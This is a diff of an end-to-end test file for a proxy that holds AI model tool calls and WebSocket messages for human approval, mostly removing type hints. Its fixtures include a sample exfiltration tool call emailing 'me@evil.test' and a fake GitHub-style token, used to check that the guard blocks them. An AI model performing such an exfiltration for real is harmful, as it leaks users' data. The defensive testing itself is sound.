@@ -4,11 +4,8 @@ Real clients (OpenAI, Anthropic, Google, websockets) behind a listener of one se
 forward listener as well.
 """
 
-from __future__ import annotations
-
 import asyncio
 from contextlib import AsyncExitStack, asynccontextmanager
-from typing import TYPE_CHECKING, Any
 
 import httpx
 import pytest
@@ -17,7 +14,7 @@ from websockets.asyncio.server import serve
 from websockets.exceptions import ConnectionClosed
 
 from guard.processes.loopback import free_port
-from tests.e2e.approval_desk import SECONDS, Desk, Place, holding, outcomes
+from tests.e2e.approval_desk import SECONDS, holding, outcomes
 from tests.e2e.clients import Reading
 from tests.e2e.running_guard import Elsewhere, Upstream, wait_until
 from tests.e2e.test_model_sdks import answer as model_answer
@@ -29,14 +26,6 @@ from tests.e2e.test_model_sdks import (
 )
 from tests.e2e.test_websockets import POLICY as BLOCKING
 
-if TYPE_CHECKING:
-    from collections.abc import AsyncIterator, Iterator
-    from pathlib import Path
-
-    from websockets.asyncio.client import ClientConnection
-    from websockets.asyncio.server import ServerConnection
-
-
 pytestmark = pytest.mark.e2e
 
 THEFT = ("email_send_email", {"to": "me@evil.test", "subject": "s", "body": "b"})
@@ -47,18 +36,18 @@ SOCKETS = BLOCKING.replace("mode: enforce", "mode: enforce\nask: {hold: 5m}").re
 TOKEN = "ghp_" + "0a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R"
 
 
-def forwarding(directory: Path, proxy: int) -> tuple[str, ...]:
+def forwarding(directory, proxy):
     """Return options for a forward listener besides the other one."""
     return "--forward", f"127.0.0.1:{proxy}", "--ca", str(directory / "ca")
 
 
-def opened(port: int) -> str:
+def opened(port):
     """Return the part of a policy that lets a forward listener connect to a local server."""
     return f"\negress: {{ports: [{port}], private: [localhost]}}\n"
 
 
 @asynccontextmanager
-async def fresh_desk(place: Place) -> AsyncIterator[Desk]:
+async def fresh_desk(place):
     """Yield what answers requests, where none of an earlier test waits any more."""
     async with place.desk() as people:
         for one in await people.waiting():
@@ -66,7 +55,7 @@ async def fresh_desk(place: Place) -> AsyncIterator[Desk]:
         yield people
 
 
-async def answered(people: Desk, *, granted: bool) -> str:
+async def answered(people, *, granted):
     """Answer what waits, once something does; return the id of one request."""
     found = await people.asked()
     await people.answer(*found, granted=granted)
@@ -77,7 +66,7 @@ async def answered(people: Desk, *, granted: bool) -> str:
 
 
 @pytest.fixture(scope="module")
-def model(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Place]:
+def model(tmp_path_factory):
     """Return a guard in front of a model server."""
     server = Upstream()
     server.answer = model_answer
@@ -94,20 +83,20 @@ CLIENTS = pytest.mark.parametrize(
 class Raw(Reading):
     """A streamed answer as it comes."""
 
-    def __init__(self, url: str, proxy: str | None = None) -> None:
+    def __init__(self, url, proxy=None):
         super().__init__()
         self._client = httpx.AsyncClient(trust_env=False, timeout=SECONDS, proxy=proxy)
         self._url = f"{url}/v1/chat/completions"
         self.task = asyncio.get_running_loop().create_task(self._run())
 
-    async def _run(self) -> None:
+    async def _run(self):
         message = {"role": "user", "content": "please theft"}
         asked = {"model": "m", "stream": True, "messages": [message]}
         async with self._client, self._client.stream("POST", self._url, json=asked) as answer:
             async for piece in answer.aiter_text():
                 self.text += piece
 
-    async def leave(self) -> None:
+    async def leave(self):
         """Hang up."""
         self.task.cancel()
         await asyncio.gather(self.task, return_exceptions=True)
@@ -115,9 +104,7 @@ class Raw(Reading):
 
 @CLIENTS
 @pytest.mark.parametrize("streamed", [True, False])
-async def test_a_call_in_an_answer_waits_and_arrives_as_it_was(
-    model: Place, ask: Any, streamed: bool
-) -> None:
+async def test_a_call_in_an_answer_waits_and_arrives_as_it_was(model, ask, streamed):
     """One yes releases one, and a no reads as words; every client waits that long."""
     found = []
     async with fresh_desk(model) as people:
@@ -132,14 +119,14 @@ async def test_a_call_in_an_answer_waits_and_arrives_as_it_was(
     assert "by the egress guard and did not reach the tool" in found[1][0]
 
 
-async def test_who_hangs_up_gives_the_call_up(model: Place) -> None:
+async def test_who_hangs_up_gives_the_call_up(model):
     """A yes after that releases nothing: it waits for the model to ask again."""
     async with fresh_desk(model) as people:
         raw = Raw(model.url)
         await raw.reads(": the egress guard waits")
         await raw.leave()
 
-        def left() -> bool:
+        def left():
             return [*outcomes(model.guard).values()][-1:] == ["left"]
 
         await asyncio.to_thread(wait_until, left, "the end of the wait")
@@ -156,11 +143,11 @@ async def test_who_hangs_up_gives_the_call_up(model: Place) -> None:
 class Socket:
     """A server that keeps what it is told, and says something when it is asked to."""
 
-    def __init__(self) -> None:
-        self.heard: list[str] = []
-        self.connection: ServerConnection | None = None
+    def __init__(self):
+        self.heard = []
+        self.connection = None
 
-    async def serve(self, connection: ServerConnection) -> None:
+    async def serve(self, connection):
         """Serve one client."""
         self.connection = connection
         async for message in connection:
@@ -168,9 +155,7 @@ class Socket:
 
 
 @asynccontextmanager
-async def socket_place(
-    directory: Path, *more: str, forward: bool
-) -> AsyncIterator[tuple[ClientConnection, Socket, Desk]]:
+async def socket_place(directory, *more, forward):
     """Yield a client, the server behind a guard, and the people that answer."""
     server, proxy = Socket(), free_port()
     async with AsyncExitStack() as stack:
@@ -191,9 +176,7 @@ async def socket_place(
 
 
 @pytest.mark.parametrize("forward", [False, True])
-async def test_a_message_of_a_websocket_waits_and_the_rest_of_it_lives(
-    tmp_path: Path, forward: bool
-) -> None:
+async def test_a_message_of_a_websocket_waits_and_the_rest_of_it_lives(tmp_path, forward):
     """Pings are answered and the server is heard; what the client sends next keeps its place."""
     async with socket_place(tmp_path, forward=forward) as (client, server, people):
         await client.send("hello")
@@ -224,7 +207,7 @@ async def test_a_message_of_a_websocket_waits_and_the_rest_of_it_lives(
     assert closed.value.rcvd.code == 1008
 
 
-async def test_what_waits_behind_a_message_has_a_bound(tmp_path: Path) -> None:
+async def test_what_waits_behind_a_message_has_a_bound(tmp_path):
     """Behind mitmproxy as many bytes as a body may have; more of them end the WebSocket."""
     place = socket_place(tmp_path, "--body-limit", "64k", forward=True)
     async with place as (client, server, people):
@@ -240,10 +223,10 @@ async def test_what_waits_behind_a_message_has_a_bound(tmp_path: Path) -> None:
     assert closed.value.rcvd.code == 1008
 
 
-async def test_what_comes_while_a_call_is_held_has_a_bound(tmp_path: Path) -> None:
+async def test_what_comes_while_a_call_is_held_has_a_bound(tmp_path):
     """A model server that goes on and on, meanwhile, is cut off; the call is not released."""
 
-    def flood(request: bytes) -> bytes:
+    def flood(request):
         head, _, body = model_answer(request).partition(b"\r\n\r\n")
         whole = body + b": on and on\n\n" * 20_000
         start = head.partition(b"content-length: ")[0] + b"transfer-encoding: chunked\r\n\r\n"
